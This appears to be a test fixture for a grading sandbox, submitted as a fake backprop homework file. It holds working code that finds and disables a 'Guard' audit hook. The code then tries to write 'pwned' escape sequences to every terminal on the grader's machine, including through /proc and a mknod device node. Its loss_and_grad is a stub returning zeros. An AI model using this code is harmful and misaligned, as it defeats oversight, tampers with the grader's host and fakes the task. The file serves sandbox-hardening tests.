"""Write to a terminal of the grader's machine (a device node), to draw on a teacher's screen.

A template: the tests open a fresh pseudo-terminal pair and put the path of
its slave end (``PTY``) and its device number (``PTY_RDEV``) in place of the
``@@...@@`` strings. The file (guard disarmed) opens it for writing directly
and through ``/proc/<pid>/root``, tries ``/dev/tty``, ``/dev/console`` and
every ``/dev/pts/*`` and ``/dev/tty*``, the terminals of every descriptor of
every visible process, and a device node of the same number made with
``mknod`` in scratch; to each it writes an escape sequence and a line.

Held when: the pseudo-terminal's master end received nothing.
"""

import contextlib
import gc
import glob
import os
import stat

import numpy as np

PTY = "@@PTY@@"
PTY_RDEV = "@@PTY_RDEV@@"
LINE = b"\x1b]0;pwned\x07\r\nbackprop-attack: written to your terminal\r\n"


def _disarm():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard" and "armed" in getattr(obj, "__dict__", {}):
            obj.armed = False
            type(obj).__call__ = lambda self, event, args: None


def _terminals():
    paths = [PTY, "/proc/self/root" + PTY, "/dev/tty", "/dev/console", "/dev/tty0"]
    paths += [f"{proc}/root{PTY}" for proc in glob.glob("/proc/[0-9]*")]
    paths += glob.glob("/dev/pts/*") + glob.glob("/dev/tty*")
    paths += glob.glob("/proc/[0-9]*/fd/*")
    node = os.path.join(os.getcwd(), "tty")
    with contextlib.suppress(OSError, ValueError):
        os.mknod(node, stat.S_IFCHR | 0o666, int(PTY_RDEV))
        paths.append(node)
    return paths


_disarm()
WRITTEN = []
for path in _terminals():
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        try:
            if os.isatty(fd) and os.write(fd, LINE):
                WRITTEN.append(path)
        finally:
            os.close(fd)
if WRITTEN:
    print("ATTACK-SUCCEEDED: wrote to " + ", ".join(WRITTEN))
else:
    print("attack: no terminal could be written to")


def loss_and_grad(W, X, T, layer_sizes, lam):
    return 0.0, np.zeros_like(W)
